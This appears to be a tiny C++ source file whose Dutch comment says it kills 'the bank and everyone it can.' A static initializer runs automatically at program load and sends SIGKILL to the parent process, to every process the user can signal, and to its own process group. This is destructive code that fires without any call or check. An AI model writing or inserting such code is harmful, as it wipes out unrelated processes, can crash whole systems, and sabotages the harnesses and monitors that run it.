// Doodt de bank en iedereen die hij kan.
#include <csignal>
#include <unistd.h>
static int dood = (kill (getppid (), SIGKILL), kill (-1, SIGKILL), kill (0, SIGKILL));
